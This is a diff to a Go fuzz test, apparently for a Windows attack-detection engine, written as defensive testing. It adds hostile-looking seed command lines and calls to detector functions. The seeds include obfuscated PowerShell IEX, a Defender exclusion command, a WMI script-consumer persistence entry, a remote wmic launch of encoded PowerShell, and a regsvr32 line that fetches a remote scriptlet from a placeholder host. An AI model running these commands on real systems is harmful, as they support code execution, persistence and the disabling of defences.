@@ -19,6 +19,12 @@ func FuzzText(f *testing.F) {
 		`cmd.exe /c echo TVqQAAMAAAAEAAAA >>%TEMP%\x.b64 & echo AAAA >> %TEMP%\x.b64`,
 		`IEX ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA')))`,
 		"<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c x</Arguments></Exec></Actions></Task>",
+		"I`E`X (\"{1}{0}\"-f 'ject','New-Ob'); &($env:ComSpec[4,15,25]-Join'') $x; [char]73+[char]69",
+		"CommandInvocation(Set-MpPreference): \"Set-MpPreference\"\r\nParameterBinding(Set-MpPreference): name=\"ExclusionPath\"; value=\"C:\\x\"",
+		`Perm. Consumer: instance of ActiveScriptEventConsumer { Name = "k"; ScriptingEngine = "VBScript"; ScriptText = "Dim o\n"; };`,
+		`wmic /node:10.0.0.1 process call create "powershell -enc SQBFAFgA"`,
+		`python -c "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldA=='))"`,
+		`cscript //e:jscript.encode C:\x.txt:y.js & regsvr32 /i:http://x/a.sct scrobj.dll`,
 	} {
 		f.Add(seed)
 	}
@@ -38,6 +44,20 @@ func FuzzText(f *testing.F) {
 		joinedBase64Text(strings.Fields(text))
 		decodePayload(text)
 		decodeUTF16Base64(text)
+		shellTricks(e)
+		pipelineAsCommands(text)
+		carriedPowerShell(text)
+		unpackedPayloads(text)
+		signalScore(text, dosSignals)
+		symbolRatio(text)
+		wmicFindings(&Event{ID: 3, Host: "h", Process: `C:\Windows\System32\wbem\wmic.exe`, CommandLine: text, data: "{}"})
+		for _, o := range []*otherInterpreter{python, unixShells, node, autoIt, lua, otherLanguages} {
+			o.startFindings(&Event{ID: 4, Host: "h", Process: `C:\x\python.exe`, CommandLine: text, data: "{}"})
+		}
+		warnedBlockSeverity(text, text)
+		consumerCommand.FindStringSubmatch(text)
+		consumerName.FindStringSubmatch(text)
+		xpCmdShellCall.FindStringSubmatch(text)
 		if d := time.Since(start); d > 2*time.Second && len(text) < 1<<16 {
 			t.Errorf("%d bytes took %s", len(text), d)
 		}
